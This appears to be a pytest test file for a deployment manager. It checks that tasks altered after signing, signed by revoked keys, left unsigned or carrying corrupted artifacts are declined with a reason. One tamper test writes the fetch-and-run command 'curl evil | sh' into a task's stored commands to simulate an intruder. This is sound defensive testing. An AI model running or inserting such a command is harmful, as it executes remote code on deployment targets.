"""The manager's last check before a task leaves it (manager/link/packages.py): only the
stored signed manifest is sent, and a task changed after signing, signed by a revoked key or
with a damaged artifact is refused with a reason (docs/security.md)."""

from __future__ import annotations

import asyncio
import hashlib
import os
import sqlite3
from pathlib import Path

from swarmdeploy.manager.link.packages import SIGNING_GRACE_MS, Packages
from swarmdeploy.manager.services.encrypted_blobs import EncryptedFileBlobStore
from swarmdeploy.manager.services.task_signing import SIGNED_CHUNK_BYTES
from swarmdeploy.protocol import messages as m
from swarmdeploy.protocol.manifest import decode_manifest
from swarmdeploy.protocol.states import TargetState
from tests.manager.link.conftest import FakeAgent, Rig, deploy_doc, link_rig, zip_b64
from tests.manager.link.test_delivery import RecordingBlobStore, chunk_index
from tests.manager.link.test_uploads import build_doc, push

S = TargetState


def tamper_db(tmp_path: Path, sql: str, *params: object) -> None:
    """Change the manager's SQLite database behind its back, as an intruder would."""
    with sqlite3.connect(tmp_path / "manager.db") as db:
        assert db.execute(sql, params).rowcount == 1


async def uploaded(builder: FakeAgent, task_id: str) -> None:
    """The build host takes the build, builds and uploads its artifact (not yet ``built``)."""
    await builder.take(m.Announce)
    await builder.report(task_id, S.ACCEPTED)
    await builder.report(task_id, S.BUILDING)
    assert (await push(builder, task_id, os.urandom(1000))).complete


async def signed_by(rig: Rig, task_id: str) -> str:
    view = (await rig.api.client.get(f"/tasks/{task_id}")).json()
    key_id = view["signedBy"]["keyId"]
    assert isinstance(key_id, str)
    return key_id


async def reason(rig: Rig, task_id: str, target_id: str) -> str:
    row = await rig.api.storage.get_task_target(task_id, target_id)
    assert row is not None
    return row.reason


async def test_command_changed_in_database_after_signing_is_declined(
    rig: Rig, tmp_path: Path
) -> None:
    agent = await rig.agent("t1", start=False)
    task_id = await rig.create_task(deploy_doc(ids=["t1"]))
    tamper_db(
        tmp_path,
        "UPDATE tasks SET descriptor = json_set(descriptor, '$.deploy.run.commands[0]', "
        "'curl evil | sh') WHERE id = ?",
        task_id,
    )
    await agent.start()
    await agent.take(m.Welcome)
    await rig.wait_row(task_id, "t1", "declined")
    await agent.sync()
    assert agent.count(m.Announce) == 0
    why = await reason(rig, task_id, "t1")
    assert "changed_after_signing" in why and "run" in why


async def test_stored_manifest_changed_after_signing_is_declined(rig: Rig, tmp_path: Path) -> None:
    agent = await rig.agent("t1", start=False)
    task_id = await rig.create_task(deploy_doc(ids=["t1"]))
    stored = await rig.api.storage.get_task_signature(task_id, "deploy")
    assert stored is not None and b"python3 app.py" in stored.manifest
    forged = stored.manifest.replace(b"python3 app.py", b"python3 bad.py")
    tamper_db(
        tmp_path,
        "UPDATE task_signatures SET manifest = ? WHERE task_id = ? AND kind = 'deploy'",
        forged,
        task_id,
    )
    await agent.start()
    await agent.take(m.Welcome)
    await rig.wait_row(task_id, "t1", "declined")
    assert "tampered" in await reason(rig, task_id, "t1")


async def test_artifact_byte_changed_in_blob_store_fails_the_fetch(
    rig: Rig, tmp_path: Path
) -> None:
    agent = await rig.agent("t1", start=False)
    task_id = await rig.create_task(deploy_doc(ids=["t1"]))
    view = (await rig.api.client.get(f"/tasks/{task_id}")).json()
    [blob] = [p for p in (tmp_path / "data" / "blobs").rglob(view["source"]["sha256"] + "*")]
    blob.chmod(0o600)
    data = bytearray(blob.read_bytes())
    data[len(data) // 2] ^= 0x01
    blob.write_bytes(bytes(data))
    await agent.start()
    await agent.take(m.Welcome)
    await rig.wait_row(task_id, "t1", "declined")
    why = await reason(rig, task_id, "t1")
    assert "tampered" in why and "SHA-256" in why


async def test_key_revoked_after_acceptance_fails_the_fetch_with_a_reason(rig: Rig) -> None:
    agent = await rig.agent("t1")
    task_id = await rig.create_task(deploy_doc(ids=["t1"]))
    await agent.take(m.Announce)
    assert (await agent.report(task_id, S.ACCEPTED)).ok
    key_id = await signed_by(rig, task_id)
    r = await rig.api.client.delete(f"/operator_keys/{key_id}")
    assert r.status_code == 200, r.text
    await agent.send(m.FetchTask(task_id=task_id))
    error = await agent.take(m.Error)
    assert error.code == "revoked_signer" and error.task_id == task_id
    assert await rig.row_state(task_id, "t1") == "install_failed"
    assert key_id in await reason(rig, task_id, "t1")


async def test_deploy_part_of_build_refused_when_the_key_was_revoked_before_it_delivered(
    rig: Rig,
) -> None:
    builder = await rig.agent("b1")
    target = await rig.agent("t1")
    task_id = await rig.create_task(build_doc("b1", "t1"))
    await uploaded(builder, task_id)
    key_id = await signed_by(rig, task_id)
    assert (await rig.api.client.delete(f"/operator_keys/{key_id}")).status_code == 200
    await builder.report(task_id, S.BUILT)
    await rig.wait_row(task_id, "t1", "declined")
    assert await rig.api.storage.get_task_signature(task_id, "deploy") is None
    assert "revoked" in await reason(rig, task_id, "t1")
    await target.sync()
    assert target.count(m.Announce) == 0


async def test_chunks_served_in_the_signed_chunk_size(rig: Rig) -> None:
    agent = await rig.agent("t1")
    doc = deploy_doc(ids=["t1"])
    doc["source"] = {"zip": zip_b64({"big.bin": os.urandom(300_000).hex()})}
    task_id = await rig.create_task(doc)
    await agent.take(m.Announce)
    await agent.report(task_id, S.ACCEPTED)
    await agent.send(m.FetchTask(task_id=task_id))
    [art] = decode_manifest((await agent.take(m.Task)).manifest).artifacts
    assert art.chunk_bytes == SIGNED_CHUNK_BYTES and art.chunk_count > 1
    await agent.send(m.ChunkRequest(task_id=task_id, sha256=art.sha256, index=0))
    first = (await agent.take(m.Chunk)).data
    assert len(first) == SIGNED_CHUNK_BYTES
    parts = [first]
    for index in range(1, art.chunk_count):
        await agent.send(m.ChunkRequest(task_id=task_id, sha256=art.sha256, index=index))
        parts.append((await agent.take(m.Chunk, chunk_index(index))).data)
    assert hashlib.sha256(b"".join(parts)).hexdigest() == art.sha256


async def test_missing_signature_waits_while_fresh_then_is_refused(
    rig: Rig, tmp_path: Path
) -> None:
    agent = await rig.agent("t1", start=False)
    task_id = await rig.create_task(deploy_doc(ids=["t1"]))
    tamper_db(tmp_path, "DELETE FROM task_signatures WHERE task_id = ?", task_id)
    await agent.start()
    await agent.take(m.Welcome)
    await agent.sync()  # as if it were still being signed: neither announced nor refused
    assert agent.count(m.Announce) == 0
    assert await rig.row_state(task_id, "t1") == "pending"
    rig.clock.advance(SIGNING_GRACE_MS / 1000 + 1)
    await agent.hello()
    await rig.wait_row(task_id, "t1", "declined")
    assert "unsigned" in await reason(rig, task_id, "t1")


async def test_pending_tasks_announced_in_signed_sequence_order_not_creation_order(
    rig: Rig,
) -> None:
    builder = await rig.agent("b1")
    target = await rig.agent("t1", start=False)
    built = await rig.create_task(build_doc("b1", "t1"))  # created first ...
    plain = await rig.create_task(deploy_doc(ids=["t1"]))
    await uploaded(builder, built)
    await builder.report(built, S.BUILT)  # ... but its deploy manifest is signed last
    signed = [await rig.api.storage.get_task_signature(t, "deploy") for t in (plain, built)]
    assert signed[0] is not None and signed[1] is not None
    assert signed[0].sequence < signed[1].sequence
    await target.start()
    first = await target.take(m.Announce)
    second = await target.take(m.Announce, lambda a: a.task_id != first.task_id)
    assert (first.task_id, second.task_id) == (plain, built)


async def test_concurrent_checks_of_one_task_hash_its_artifact_once(tmp_path: Path) -> None:
    blobs = RecordingBlobStore(tmp_path / "blobs")
    async with link_rig(tmp_path, app={"blobs": blobs}) as rig:
        doc = deploy_doc(ids=["t1"])
        doc["source"] = {"zip": zip_b64({"big.bin": os.urandom(1_500_000).hex()})}
        await rig.agent("t1", start=False)
        task_id = await rig.create_task(doc)
        task = await rig.api.storage.get_task(task_id)
        assert task is not None
        packages = Packages(rig.api.storage, blobs, clock=rig.clock, ttl_ms=60_000)
        blobs.range_reads.clear()
        results = await asyncio.gather(*(packages.package(task, "deploy") for _ in range(20)))
        assert all(r is results[0] and r is not None for r in results)
        [art] = results[0].artifacts if results[0] else []
        assert sum(blobs.range_reads) == art.size_bytes  # one pass over the blob, not twenty


async def test_tampered_chunk_of_an_encrypted_blob_fails_the_fetch(tmp_path: Path) -> None:
    blobs = EncryptedFileBlobStore(tmp_path / "encrypted-blobs", bytes(range(32)))
    async with link_rig(tmp_path, app={"blobs": blobs}) as rig:
        agent = await rig.agent("t1", start=False)
        task_id = await rig.create_task(deploy_doc(ids=["t1"]))
        view = (await rig.api.client.get(f"/tasks/{task_id}")).json()
        [blob] = list((tmp_path / "encrypted-blobs").rglob(view["source"]["sha256"]))
        data = bytearray(blob.read_bytes())
        data[-1] ^= 0x01  # the tag of the last chunk
        blob.write_bytes(bytes(data))
        await agent.start()
        await agent.take(m.Welcome)
        await rig.wait_row(task_id, "t1", "declined")
        why = await reason(rig, task_id, "t1")
        assert "tampered" in why and "damaged" in why
